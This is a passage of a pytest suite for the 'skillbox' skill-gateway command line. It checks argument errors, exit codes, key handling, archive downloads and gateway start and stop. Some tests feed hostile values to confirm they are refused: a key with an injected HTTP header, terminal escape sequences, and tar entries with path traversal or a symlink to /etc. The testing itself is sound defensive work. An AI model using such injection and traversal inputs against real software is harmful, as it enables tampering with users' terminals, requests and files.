"""The command line: against a real gateway, against a server that lies, and `up`/`down`."""

import contextlib
import datetime
import http.server
import io
import json
import os
import pathlib
import pty
import re
import shutil
import signal
import subprocess
import tarfile
import tempfile
import threading
import time

import pytest

from harness import settings

SKILLBOX = settings.BIN / "skillbox"
SKILLS = settings.TOP / "skills"
KEY = "sk-" + "A" * 43


def cli(*args, env=None, stdin=None, cwd=None, timeout=60):
    """Runs skillbox without whatever the caller's environment says about servers."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith("SKILLBOX_") and "proxy" not in k.lower()}
    clean.update(env or {})
    return subprocess.run([SKILLBOX, *map(str, args)], env=clean, input=stdin, cwd=cwd, capture_output=True,
                          text=True, timeout=timeout * settings.SLOW)


def fails(result, status, pattern):
    assert result.returncode == status, (result.returncode, result.stdout, result.stderr)
    assert re.search(pattern, result.stderr), result.stderr


def works(result):
    assert result.returncode == 0, (result.returncode, result.stdout, result.stderr)
    return result


@pytest.fixture
def at(gateway):
    """at("skill", "list"): the command with this gateway's URL and admin key."""
    env = {"SKILLBOX_SERVER_URL": gateway.url, "SKILLBOX_API_KEY": gateway.key}
    return lambda *args, **kwargs: cli(*args, env={**env, **kwargs.pop("env", {})}, **kwargs)


# ---- a server that says what the test wants ----

class Fake:
    """answers: path, with its query or for any -> (status, headers, body); requests: what came, as
    (method, path, headers, body)."""

    def __init__(self):
        self.answers = {}
        self.requests = []
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def serve(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                fake.requests.append((self.command, self.path, dict(self.headers), body))
                absent = (404, {}, b'{"error":"not_found","message":"no"}')
                status, headers, body = fake.answers.get(self.path) or fake.answers.get(self.path.split("?")[0], absent)
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_DELETE = serve

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def answer(self, path, value, status=200, **headers):
        body = value if isinstance(value, bytes) else json.dumps(value).encode()
        self.answers[path] = (status, headers, body)

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=10)


@pytest.fixture
def fake():
    server = Fake()
    yield server
    server.stop()


# ---- the words on the command line ----

# All that the overview lists; some of it under the names that users of others' tools expect.
COMMANDS = [name for name in re.findall(r"^  ([a-z]+(?: [a-z]+)?) +\S", cli("--help").stdout, re.M) if name != "version"]
PROMISED = {"exec list", "exec cancel", "exec logs", "skill versions", "skill activate", "skill validate", "file put",
            "file get", "tenant create", "doctor", "backup", "restore", "gc", "key rotate", "completion"}


def test_the_commands_that_were_promised_are_there():
    assert PROMISED <= set(COMMANDS)


@pytest.mark.parametrize("said, meant", [("keys rotate", "key rotate"), ("skills list", "skill list"),
                                         ("execs logs", "exec logs"), ("files get", "file get")])
def test_a_group_may_be_said_in_the_plural(said, meant):
    assert cli(*said.split(), "--help").stdout == cli(*meant.split(), "--help").stdout != ""
    group = said.split()[0]
    assert cli(group, "--help").stdout == cli(group[:-1], "--help").stdout != ""
    fails(cli(group, "frobnicate"), 2, f"unknown command '{group} frobnicate'")
    fails(cli("gcs"), 2, "unknown command 'gcs'")


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_explains_itself(command):
    text = works(cli(*command.split(), "--help")).stdout
    assert text.startswith(f"Usage: skillbox {command}")
    assert "\nExamples:\n" in text and "\nExit status:\n" in text
    assert max(map(len, text.splitlines())) <= 110


def test_every_command_is_in_the_manual():
    page = (settings.TOP / "cli" / "skillbox.1").read_text(encoding="utf-8")
    for command in COMMANDS + ["version"]:
        assert f"skillbox {command}" in page.replace("\\fR", "").replace("\\fB", ""), command


@pytest.mark.parametrize("args, message", [
    ([], "Usage"),
    (["frobnicate"], "unknown command 'frobnicate'"),
    (["skill"], "skill push"),
    (["skill", "frobnicate"], "unknown command 'skill frobnicate'"),
    (["skill", "push"], "operand is missing"),
    (["skill", "list", "x"], "unexpected operand 'x'"),
    (["skill", "list", "--frob"], "unknown option --frob"),
    (["skill", "list", "-x"], "unknown option -x"),
    (["skill", "list", "--json=1"], "--json takes no value"),
    (["skill", "list", "--output"], "--output needs a value"),
    (["skill", "list", "--output", "xml"], "either json or table"),
    (["skill", "list", "--key", KEY, "--key", KEY], "given twice"),
    (["skill", "list", "--server", "ftp://x"], "http:// or https://"),
    (["skill", "list", "--server", "http://x", "--tenant", "a\nb"], "not a tenant"),
    (["skill", "delete", "x"], "either a version or --all"),
    (["up", "--port", "70000"], "--port is a number"),
    (["key", "create", "--role", "king"], "--role is one of"),
    (["key", "create", "--expires", "soon"], "--expires"),
    (["key", "revoke", "x"], "not the id of a key"),
    (["exec", "show", "x"], "not the id of an execution"),
    (["run", "x", "--server", "http://x", "--input", "{"], "--input is not JSON"),
    (["run", "x", "--server", "http://x", "--input", "@/nonexistent"], "No such file"),
    (["run", "x", "--server", "http://x", "--env", "novalue"], "--env is NAME=VALUE"),
    (["run", "x", "--server", "http://x", "--timeout", "soon"], "--timeout"),
    (["run", "x", "--server", "http://x", "--script", "a", "--module", "b"], "either --script or --module"),
    (["run", "x", "--server", "http://x", "--input", "-", "--stdin", "-"], "can't both"),
])
def test_a_wrong_command_line_is_status_2_and_does_nothing(args, message):
    fails(cli(*args), 2, message)


def test_version_is_printed():
    assert re.fullmatch(r"skillbox \d+\.\d+\.\d+\n", works(cli("version")).stdout)


# ---- which server, which key ----

def test_no_server_and_no_answer_are_status_4(tmp_path):
    fails(cli("skill", "list", cwd=tmp_path), 4, "no server")
    fails(cli("skill", "list", "--server", "http://127.0.0.1:1", "--key", KEY), 4, "no answer from")


def test_a_key_that_is_none_is_not_sent(fake):
    fails(cli("skill", "list", "--server", fake.url, "--key", "secret\r\nX-Evil: 1"), 5, "not one")
    assert fake.requests == []


def test_the_key_goes_to_the_named_server_and_to_no_redirect(fake):
    other = Fake()
    try:
        fake.answer("/v1/skills", b"", 302, Location=f"{other.url}/v1/skills")
        fails(cli("skill", "list", "--server", fake.url, "--key", KEY), 1, "HTTP 302")
        assert fake.requests[0][2]["Authorization"] == f"Bearer {KEY}"
        assert other.requests == []
    finally:
        other.stop()


def test_the_key_of_a_state_folder_goes_to_its_own_gateway_only(fake, tmp_path):
    (tmp_path / "state.json").write_text(json.dumps({"url": fake.url, "port": 1}))
    (tmp_path / "api-key").write_text(KEY + "\n")
    fake.answer("/v1/skills", [])
    works(cli("skill", "list", "--state", tmp_path))
    assert fake.requests[0][2]["Authorization"] == f"Bearer {KEY}"
    works(cli("skill", "list", "--server", fake.url, env={"SKILLBOX_STATE": str(tmp_path)}))
    assert "Authorization" not in fake.requests[1][2]


def test_a_proxy_is_not_asked_for_loopback_addresses(fake):
    fake.answer("/v1/skills", [])
    works(cli("skill", "list", "--server", fake.url, env={"http_proxy": "http://127.0.0.1:1"}))


@pytest.mark.parametrize("status, exit_status", [
    (400, 1), (401, 5), (403, 5), (404, 3), (409, 6), (413, 1), (429, 7), (500, 1), (502, 1), (503, 7), (504, 1)])
def test_refusals_have_exit_statuses_of_their_own(fake, status, exit_status):
    fake.answer("/v1/skills", {"error": "slug", "message": "Because.", "details": [{"file": "a", "line": 3, "message": "x"}]},
                status)
    result = cli("skill", "list", "--server", fake.url)
    fails(result, exit_status, rf"Because\. \(slug, HTTP {status}\)")
    assert "a:3: x" in result.stderr


# ---- what a server or a skill says is not trusted ----

def on_a_terminal(*args, env=None):
    """Runs skillbox with a terminal as stdout and stderr; gives what it wrote."""
    main, side = pty.openpty()
    try:
        process = subprocess.Popen([SKILLBOX, *args], stdin=subprocess.DEVNULL, stdout=side, stderr=side,
                                   env={**os.environ, **(env or {})})
        os.close(side)
        out = b""
        with contextlib.suppress(OSError):
            while chunk := os.read(main, 65536):
                out += chunk
        process.wait(timeout=30 * settings.SLOW)
    finally:
        os.close(main)
    return process.returncode, out


def answer_with(**fields):
    return {"execution_id": "0193a5c2-7f31-7a50-9c0e-3a1d3f0c2b11", "status": "success", "duration_ms": 5,
            "error": None, **fields}


def test_control_characters_do_not_reach_a_terminal(fake):
    evil = "a\x1b]0;owned\x07b\x9b31m\x7f"
    fake.answer("/v1/executions", answer_with(logs=evil, output={"k": evil}, files_list=[evil], error=evil))
    status, out = on_a_terminal("run", "x", "--server", fake.url, env={"NO_COLOR": "1"})
    assert status == 0
    text = out.decode()
    # the line that shows progress is the only one with escapes of our own
    assert "\x1b]" not in text and "\x9b" not in text and "\x07" not in text and "\x7f" not in text
    assert "\\x1b]0;owned\\x07b" in text
    fake.answer("/v1/skills", [{"name": "n\x1b[2J", "version": "1", "lang": "", "description": "d\x1b[2J"}])
    assert "\x1b[2J" not in on_a_terminal("skill", "list", "--server", fake.url)[1].decode()


def test_a_log_is_piped_as_it_is(fake):
    log = b"\x1b[1mbold\x1b[0m\n\xff\n"
    fake.answer("/v1/executions/0193a5c2-7f31-7a50-9c0e-3a1d3f0c2b11/logs", log)
    out = subprocess.run([SKILLBOX, "exec", "logs", "0193a5c2-7f31-7a50-9c0e-3a1d3f0c2b11", "--server", fake.url],
                         capture_output=True, timeout=30, check=True)
    assert out.stdout == log


def tar_of(*members):
    """members: (name, content) or TarInfo."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
            else:
                info = tarfile.TarInfo(member[0])
                info.size = len(member[1])
                tar.addfile(info, io.BytesIO(member[1]))
    return out.getvalue()


def special(name, kind, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def download(fake, archive, folder, *more):
    fake.answer("/files?sig=1", archive)
    fake.answer("/v1/executions", answer_with(files_url=f"{fake.url}/files?sig=1", files_list=["a"]))
    return cli("run", "x", "--server", fake.url, "--key", KEY, "--download", folder, *more)


def test_download_unpacks_what_is_sound_and_sends_no_key(fake, tmp_path):
    works(download(fake, tar_of(("a.txt", b"A"), ("deep/er/b.txt", b"B" * 100000)), tmp_path / "out"))
    assert (tmp_path / "out/a.txt").read_bytes() == b"A"
    assert (tmp_path / "out/deep/er/b.txt").stat().st_size == 100000
    assert (tmp_path / "out/a.txt").stat().st_mode & 0o7777 & ~0o644 == 0
    assert "Authorization" not in fake.requests[-1][2]


@pytest.mark.parametrize("bad", [
    ("../evil", b"x"), ("/tmp/evil", b"x"), ("a/../../evil", b"x"), ("./evil", b"x"), ("a//b", b"x"), ("a\nb", b"x"),
    ("x" * 2000, b"x"), special("link", tarfile.SYMTYPE, "/etc"), special("hard", tarfile.LNKTYPE, "ok"),
    special("dir", tarfile.DIRTYPE), special("fifo", tarfile.FIFOTYPE), special("dev", tarfile.CHRTYPE),
], ids=str)
def test_download_refuses_the_whole_archive_for_one_bad_entry(fake, tmp_path, bad):
    fails(download(fake, tar_of(("ok", b"fine"), bad), tmp_path / "out"), 1, "refused")
    assert list((tmp_path / "out").iterdir()) == []
    assert not (tmp_path / "evil").exists() and not os.path.exists("/tmp/evil")


def test_download_refuses_too_many_files(fake, tmp_path):
    archive = tar_of(*((f"f{i}", b"") for i in range(4097)))
    fails(download(fake, archive, tmp_path / "out"), 1, "too many files")
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("archive", [b"", b"not a tar", tar_of(("a", b"x" * 50000))[:-40]], ids=["empty", "text", "cut"])
def test_download_refuses_a_damaged_archive(fake, tmp_path, archive):
    fails(download(fake, archive, tmp_path / "out"), 1, "damaged")
    assert list((tmp_path / "out").iterdir()) == []


def test_download_does_not_go_through_links(fake, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "out/sub").symlink_to(tmp_path / "outside")
    result = download(fake, tar_of(("sub/a", b"x")), tmp_path / "out", "--force")
    assert result.returncode == 1
    assert list((tmp_path / "outside").iterdir()) == []


def test_download_overwrites_only_by_force(fake, tmp_path):
    (tmp_path / "out").mkdir()
    target = tmp_path / "target"
    target.write_text("precious")
    (tmp_path / "out/b").symlink_to(target)
    archive = tar_of(("a", b"new"), ("b", b"new"))
    fails(download(fake, archive, tmp_path / "out"), 1, "b exists; --force replaces it")
    assert not (tmp_path / "out/a").exists()
    works(download(fake, archive, tmp_path / "out", "--force"))
    assert (tmp_path / "out/b").read_text() == "new" and target.read_text() == "precious"


def test_json_is_indented_on_a_terminal_with_its_digits(fake):
    fake.answers["/v1/executions"] = (200, {}, b'{"execution_id":"x","output":{"a":[1.10,{}],"b":"{,"},"status":"success"}')
    out = on_a_terminal("run", "x", "--server", fake.url, env={"NO_COLOR": "1"})[1].decode().replace("\r\n", "\n")
    assert '{\n  "a": [\n    1.10,\n    {}\n  ],\n  "b": "{,"\n}\n' in out


def test_progress_is_for_terminals_only(fake):
    fake.answer("/v1/executions", answer_with(output=1))
    assert "\r" not in cli("run", "x", "--server", fake.url).stderr


# ---- what run sends ----

FILE_ID = "0193a5c2-7f31-7a50-9c0e-3a1d3f0c2b11"


@pytest.mark.parametrize("spec", ["x", "", f"={FILE_ID}", f"{FILE_ID}=", f"a={FILE_ID[:-1]}"])
def test_an_input_file_that_is_no_id_is_not_sent(fake, spec):
    fails(cli("run", "x", "--server", fake.url, "--input-file", spec), 2, "--input-file")
    assert fake.requests == []


def test_run_sends_what_it_is_told(fake, tmp_path):
    (tmp_path / "data.bin").write_bytes(b"\x00\xff")
    fake.answer("/v1/executions", answer_with(output={"a": 1}))
    result = works(cli("run", "x", "--server", fake.url, "--version", "1.2.3", "--input", "-", "--script", "s.py",
                       "--arg", "-v", "--arg", "", "--env", "A=b=c", "--timeout", "1m30s", "--stdin", "hello",
                       "--file", tmp_path / "data.bin", "--file", f"other={tmp_path / 'data.bin'}",
                       "--input-file", FILE_ID, "--input-file", f"a=b/c={FILE_ID}",
                       stdin='{"n": [1, null]}'))
    assert json.loads(fake.requests[0][3]) == {
        "skill": "x", "version": "1.2.3", "input": {"n": [1, None]}, "script": "s.py", "args": ["-v", ""],
        "env": {"A": "b=c"}, "timeout_ms": 90000, "stdin": "hello", "files": {"data.bin": "AP8=", "other": "AP8="},
        "input_files": [FILE_ID, {"id": FILE_ID, "path": "a=b/c"}]}
    assert json.loads(result.stdout) == {"a": 1}


def test_numbers_keep_all_their_digits(fake):
    number = "[0.1, 1.0, 1e400, 123456789012345678901234567890, -0]"
    fake.answer("/v1/executions", b'{"execution_id":"x","output":' + number.encode() + b',"status":"success"}')
    result = works(cli("run", "x", "--server", fake.url, "--input", number))
    assert fake.requests[0][3] == b'{"skill":"x","input":' + number.encode() + b"}"
    assert result.stdout == number + "\n"


@pytest.mark.parametrize("text", ["", "{", "[1,]", "01", "+1", ".5", "1.", "nul", '"\\x"', '"\\u12g4"', '{"a" 1}', "1 2",
                                  "'a'", "{1:2}", "[" * 1001 + "]" * 1001, '"a', '"\t"', "NaN", "[1}"],
                         ids=lambda text: text[:8])
def test_input_that_is_not_json_is_not_sent(fake, text):
    fails(cli("run", "x", "--server", fake.url, "--input", text), 2, "--input is not JSON")
    assert fake.requests == []


def test_run_sends_no_input_unless_told(fake):
    fake.answer("/v1/executions", answer_with())
    assert works(cli("run", "x", "--server", fake.url)).stdout == ""
    assert json.loads(fake.requests[0][3]) == {"skill": "x"}
    works(cli("run", "x", "--server", fake.url, "--input", "null"))
    assert json.loads(fake.requests[1][3]) == {"skill": "x", "input": None}


@pytest.mark.parametrize("status", ["failed", "timeout", "cancelled"])
def test_a_run_that_did_not_succeed_is_status_1(fake, status):
    fake.answer("/v1/executions", answer_with(status=status, error="exited with code 3", logs="boo"))
    result = cli("run", "x", "--server", fake.url)
    fails(result, 1, f"{status} in 5 ms: exited with code 3")
    assert "boo\n" in result.stderr and result.stdout == ""


# ---- packages ----

def test_lint_tells_file_and_line(tmp_path):
    (tmp_path / "SKILL.md").write_text("---\nname: x\ndescription: d\ntimeout: soon\n---\n")
    result = cli("skill", "lint", tmp_path)
    assert result.returncode == 1
    assert re.search(r"^SKILL\.md:4: error: .*\[[a-z-]+\]$", result.stdout, re.M), result.stdout
    report = json.loads(cli("skill", "lint", "--json", tmp_path).stdout)
    assert report["valid"] is False and report["findings"][0]["line"] == 4


def test_lint_strict_fails_for_warnings(tmp_path):
    (tmp_path / "SKILL.md").write_text("---\nname: Not_Strict\ndescription: d\n---\n")
    assert "warning" in works(cli("skill", "lint", tmp_path)).stdout
    assert cli("skill", "lint", "--strict", tmp_path).returncode == 1


@pytest.mark.parametrize("name", sorted(p.name for p in SKILLS.iterdir() if p.is_dir()))
def test_the_example_skills_have_no_findings(name):
    assert json.loads(works(cli("skill", "lint", "--strict", "--json", SKILLS / name)).stdout)["findings"] == []


def test_package_is_deterministic_and_never_replaces(tmp_path):
    works(cli("skill", "package", SKILLS / "csv-toolkit", cwd=tmp_path))
    first = (tmp_path / "csv-toolkit.skill").read_bytes()
    fails(cli("skill", "package", SKILLS / "csv-toolkit", cwd=tmp_path), 1, "--force replaces it")
    shutil.copytree(SKILLS / "csv-toolkit", tmp_path / "copy", copy_function=shutil.copy)
    works(cli("skill", "package", tmp_path / "copy", "--out", "b.zip", cwd=tmp_path))
    assert (tmp_path / "b.zip").read_bytes() == first
    works(cli("skill", "package", tmp_path / "copy", "--out", "b.zip", "--force", cwd=tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.zip", "copy", "csv-toolkit.skill"]
    works(cli("skill", "lint", tmp_path / "b.zip"))


def test_a_bad_package_is_not_sent(fake, tmp_path):
    (tmp_path / "SKILL.md").write_text("---\nname: x\n---\n")
    fails(cli("skill", "push", tmp_path, "--server", fake.url), 1, "description")
    fails(cli("skill", "push", tmp_path / "nothing", "--server", fake.url), 3, "No such file")
    (tmp_path / "file").write_text("no zip")
    assert cli("skill", "push", tmp_path / "file", "--server", fake.url).returncode == 1
    assert fake.requests == []


# ---- with a real gateway ----

def write_skill(folder, name="tiny", version="1.0.0", code="print('hi')\n"):
    folder.mkdir(exist_ok=True)
    (folder / "SKILL.md").write_text(f"---\nname: {name}\ndescription: A test.\nversion: {version}\n---\n\nDo it.\n")
    (folder / "main.py").write_text(code)
    return folder


def test_push_list_show_delete(at, tmp_path):
    folder = write_skill(tmp_path / "s")
    assert "pushed tiny 1.0.0" in works(at("skill", "push", folder)).stderr
    assert "unchanged: tiny 1.0.0" in works(at("skill", "push", folder)).stderr
    listed = works(at("skill", "list")).stdout
    assert re.search(r"^tiny +1\.0\.0 +python +A test\.$", listed, re.M), listed
    assert {"name": "tiny", "version": "1.0.0"}.items() <= json.loads(at("skill", "list", "--json").stdout)[0].items()
    shown = works(at("skill", "show", "tiny")).stdout
    assert "Do it." in shown and "main.py" in shown
    write_skill(folder, code="print('other')\n")
    fails(at("skill", "push", folder), 6, "conflict")
    bumped = json.loads(works(at("skill", "push", "--bump", "--json", folder)).stdout)
    assert (bumped["version"], bumped["bumped_from"]) == ("1.0.1", "1.0.0")
    works(at("skill", "delete", "tiny", "1.0.1"))
    assert json.loads(at("skill", "show", "tiny", "--json").stdout)["version"] == "1.0.0"
    works(at("skill", "delete", "tiny", "--all"))
    fails(at("skill", "show", "tiny"), 3, "not_found")
    fails(at("skill", "delete", "tiny", "--all"), 3, "not_found")


def test_push_takes_a_zip(at, tmp_path):
    works(cli("skill", "package", SKILLS / "text-summary", "--out", tmp_path / "t.skill"))
    from_zip = json.loads(works(at("skill", "push", "--json", tmp_path / "t.skill")).stdout)
    from_folder = json.loads(works(at("skill", "push", "--json", SKILLS / "text-summary")).stdout)
    assert from_zip["digest"] == from_folder["digest"]


def test_run_prints_output_and_keeps_the_record(at, tmp_path):
    works(at("skill", "push", SKILLS / "data-analysis"))
    result = works(at("run", "data-analysis", "--input", f"@{SKILLS}/data-analysis/example.json", "--download",
                      tmp_path / "out"))
    assert json.loads(result.stdout)["groups"]["west"] == {"rows": 2, "mean": {"sales": 195, "returns": 7.5}}
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["chart.svg", "summary.md"]
    assert (tmp_path / "out/chart.svg").read_text().startswith("<svg ")
    execution = re.search(r"execution ([0-9a-f-]{36})", result.stderr)[1]
    record = json.loads(works(at("exec", "show", execution)).stdout)
    assert record["status"] == "success" and record["output"]["rows"] == 6
    assert works(at("exec", "logs", execution)).stdout == "6 rows, 4 columns\n"


def test_a_failing_skill_is_status_1_and_its_log_is_shown(at):
    works(at("skill", "push", SKILLS / "data-analysis"))
    fails(at("run", "data-analysis"), 1, r"give the table as 'records'[^\n]*\n(.|\n)*failed in \d+ ms: exited with code 1")
    answer = json.loads(at("run", "data-analysis", "--json").stdout)
    assert answer["exit_code"] == 1 and "output" not in answer


def test_a_wrong_key_is_status_5(gateway):
    fails(cli("skill", "list", "--server", gateway.url, "--key", KEY), 5, "unauthorized")
    fails(cli("skill", "list", "--server", gateway.url), 5, "unauthorized")


def test_health_tells_what_is_ready(gateway):
    assert re.search(r"^helper +ok$", works(cli("health", "--server", gateway.url)).stdout, re.M)
    assert json.loads(cli("health", "--server", gateway.url, "--json").stdout)["status"] == "ready"


@pytest.mark.parametrize("given, seconds", [("12h", 43200), ("90d", 7776000)])
def test_a_key_may_last_hours_or_days(gateway, given, seconds):
    made = json.loads(works(cli("key", "create", "--store", gateway.state / "store", "--expires", given, "--json")).stdout)
    created, expires = (datetime.datetime.fromisoformat(made[k]) for k in ("created_at", "expires_at"))
    assert abs((expires - created).total_seconds() - seconds) < 5


@pytest.mark.parametrize("given", ["30h", "x", "d", "-1d", "99999d", "4000d", "1dd"])
def test_a_key_may_not_last_what_is_no_time(given):
    fails(cli("key", "create", "--store", "/nonexistent", f"--expires={given}"), 2, "--expires: ")


def test_keys_are_made_listed_and_revoked_beside_a_running_gateway(gateway):
    store = ["--store", gateway.state / "store"]
    made = json.loads(works(cli("key", "create", *store, "--tenant", "t1", "--name", "né", "--role", "reader",
                                "--expires", "1h", "--json")).stdout)
    assert made["role"] == "reader" and made["expires_at"] > made["created_at"]
    works(cli("skill", "list", "--server", gateway.url, "--key", made["key"]))
    listed = works(cli("key", "list", *store, "--tenant", "t1", "--json")).stdout
    assert [k["id"] for k in json.loads(listed)] == [made["id"]] and "sk-" not in listed
    assert "né" in works(cli("key", "list", *store)).stdout
    works(cli("key", "revoke", *store, made["id"]))
    fails(cli("skill", "list", "--server", gateway.url, "--key", made["key"]), 5, "unauthorized")
    fails(cli("key", "revoke", *store, made["id"]), 3, "key")
    fails(cli("key", "list", "--store", gateway.state / "nothing"), 3, "no store")


def test_a_service_key_acts_for_a_tenant_and_others_do_not(gateway):
    store = ["--store", gateway.state / "store"]
    service = works(cli("key", "create", *store, "--service", "--role", "admin")).stdout.strip()
    plain = works(cli("key", "create", *store)).stdout.strip()
    listed = cli("skill", "list", "--server", gateway.url, "--key", service, "--tenant", "t2", "--json")
    assert json.loads(works(listed).stdout) == []
    fails(cli("skill", "list", "--server", gateway.url, "--key", plain, "--tenant", "t2"), 5, "forbidden")


# ---- the example skills, as an agent would use them ----

def test_text_summary(at):
    works(at("skill", "push", SKILLS / "text-summary"))
    text = "The river rose. Cats sleep. The river flooded the road by the river."
    out = json.loads(works(at("run", "text-summary", "--input", json.dumps({"text": text, "sentences": 1}))).stdout)
    assert out["sentences"] == [{"index": 2, "text": "The river flooded the road by the river."}]
    fails(at("run", "text-summary", "--input", '{"text": " "}'), 1, "'text' is empty")


def test_word_counter(at):
    works(at("skill", "push", SKILLS / "word-counter"))
    out = json.loads(works(at("run", "word-counter", "--input", '{"text": "The fox. The dog.", "top": 1}')).stdout)
    assert (out["words"], out["sentences"], out["top"]) == (4, 2, [{"word": "the", "count": 2}])
    fails(at("run", "word-counter", "--input", '{"text": 1}'), 1, "string 'text'")


def test_log_digest(at, tmp_path):
    works(at("skill", "push", SKILLS / "log-digest"))
    log = '2026-11-20T12:00:00Z ERROR "db" took 30 s \\ é\n2026-11-20T12:00:01Z ERROR "db" took 31 s \\ é\ninfo ok\n'
    expected = {
        "lines": 3, "first": "2026-11-20T12:00:00Z", "last": "2026-11-20T12:00:01Z",
        "levels": {"error": 2, "warning": 0, "info": 1, "debug": 0, "other": 0},
        "top": [{"count": 2, "level": "error", "message": 'ERROR "db" took # s \\ é'}]}
    for ensure_ascii in (True, False):
        given = json.dumps({"log": log, "top": 1, "x": {"log": "no"}}, ensure_ascii=ensure_ascii)
        assert json.loads(works(at("run", "log-digest", "--input", given)).stdout) == expected
    (tmp_path / "log").write_text(log)
    result = works(at("run", "log-digest", "--input", '{"top": 1}', "--stdin", f"@{tmp_path}/log", "--download", tmp_path))
    assert json.loads(result.stdout) == expected
    assert (tmp_path / "errors.log").read_text() == "".join(log.splitlines(True)[:2])
    fails(at("run", "log-digest"), 1, "give the log")


def test_csv_toolkit_runs_script_by_script(at, tmp_path):
    works(at("skill", "push", SKILLS / "csv-toolkit"))
    (tmp_path / "l.csv").write_text("id,name\n1,Ann\n2,Bob\n")
    (tmp_path / "r.csv").write_text("id;city\n2;Rome\n")
    fails(at("run", "csv-toolkit"), 6, "skill_not_available")
    works(at("run", "csv-toolkit", "--script", "scripts/join.py", "--file", tmp_path / "l.csv", "--file",
             tmp_path / "r.csv", "--arg", "l.csv", "--arg", "r.csv", "--arg", "--on", "--arg", "id", "--arg", "--out",
             "--arg", "joined.csv", "--download", tmp_path / "out"))
    assert (tmp_path / "out/joined.csv").read_text() == "id,name,city\n2,Bob,Rome\n"
    peek = at("run", "csv-toolkit", "--script", "scripts/peek.sh", "--file", tmp_path / "r.csv", "--arg", "r.csv")
    assert "delimiter  ;" in works(peek).stderr
    checked = at("run", "csv-toolkit", "--script", "scripts/check.py", "--file", tmp_path / "l.csv", "--arg", "l.csv")
    assert json.loads(works(checked).stdout)["ok"] is True
    fails(at("run", "csv-toolkit", "--script", "scripts/nope.py"), 1, "bad_request")


# ---- up and down ----

def up_options():
    options = ["--nginx", settings.NGINX]
    return options + ["--module", settings.MODULE or "static"]


@pytest.fixture
def state():
    """A folder in /tmp (short, for the socket's sake) whose gateway is stopped afterwards."""
    parent = pathlib.Path(tempfile.mkdtemp(prefix="sbup-", dir="/tmp"))
    parent.chmod(0o755)
    yield parent / "s"
    if (parent / "s/state.json").exists():
        works(cli("down", "--state", parent / "s", "--grace", "2s", "--remove"))
    shutil.rmtree(parent)


def pids(state):
    data = json.loads((state / "state.json").read_text())
    return data["nginx"]["pid"], data["helper"]["pid"]


def belongs_to(state):
    """Processes with the state folder in their command line or as their working folder."""
    found = []
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                if str(state) in line or os.readlink(entry / "cwd") == str(state):
                    found.append((int(entry.name), line))
    return found


def wait_gone(state, seconds=10):
    end = time.monotonic() + seconds * settings.SLOW
    while belongs_to(state) and time.monotonic() < end:
        time.sleep(0.05)
    assert belongs_to(state) == []


def test_up_gives_a_working_gateway_and_down_leaves_nothing(state):
    result = works(cli("up", "--state", state, "--json", *up_options()))
    assert result.stdout.count("\n") == 1
    up = json.loads(result.stdout)
    assert set(up) == {"url", "api_key", "state_dir"} and up["state_dir"] == str(state)
    works(cli("status", "--state", state))
    # no flag but the folder: server and key are found there
    works(cli("skill", "push", SKILLS / "text-summary", "--state", state))
    works(cli("run", "text-summary", "--input", '{"text": "A b c."}', "--state", state))
    assert "text-summary" in works(cli("skill", "list", env={"SKILLBOX_STATE": str(state)})).stdout

    again = json.loads(works(cli("up", "--state", state, "--json", *up_options())).stdout)
    assert again == up
    assert "running already" in works(cli("up", "--state", state, *up_options())).stdout

    works(cli("down", "--state", state))
    assert belongs_to(state) == []
    assert cli("status", "--state", state).returncode == 3
    assert "no gateway is running" in works(cli("down", "--state", state)).stderr

    # started again it has the same address, the same key, and what was pushed
    after = json.loads(works(cli("up", "--state", state, "--json", *up_options())).stdout)
    assert after == up
    assert "text-summary" in works(cli("skill", "list", "--state", state)).stdout
    works(cli("down", "--state", state))
    assert belongs_to(state) == []


def test_down_removes_the_folder_when_told_and_follows_no_links(state):
    works(cli("up", "--state", state, *up_options()))
    works(cli("skill", "push", SKILLS / "csv-toolkit", "--state", state))
    outside = state.parent / "outside"
    outside.mkdir()
    (outside / "precious").write_text("x")
    (state / "tmp/link").symlink_to(outside)
    works(cli("down", "--state", state, "--remove"))
    assert [p.name for p in state.parent.iterdir()] == ["outside"] and (outside / "precious").exists()


def test_up_keeps_secrets_to_their_owners(state):
    works(cli("up", "--state", state, *up_options()))
    mode = {name: (state / name).stat().st_mode & 0o777 for name in ("api-key", "sign.key", "state.json", "store", "helper")}
    assert mode == {"api-key": 0o600, "sign.key": 0o600, "state.json": 0o600, "store": 0o700, "helper": 0o700}
    if settings.ROOT:
        assert {p.stat().st_uid for p in (state / "store").iterdir()} == {settings.ids("www-data")[0]}
    else:
        assert state.stat().st_mode & 0o777 == 0o700


def test_foreground_ends_with_its_signal_and_leaves_nothing(state):
    process = subprocess.Popen([SKILLBOX, "up", "--foreground", "--json", "--state", state, *up_options()],
                               stdout=subprocess.PIPE, text=True)
    try:
        assert json.loads(process.stdout.readline())["state_dir"] == str(state)
        works(cli("status", "--state", state))
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=30 * settings.SLOW) == 0
    finally:
        process.kill()
        process.stdout.close()
    assert belongs_to(state) == []


def test_foreground_ends_when_down_stops_the_gateway(state):
    process = subprocess.Popen([SKILLBOX, "up", "--foreground", "--json", "--state", state, *up_options()],
                               stdout=subprocess.PIPE, text=True)
    try:
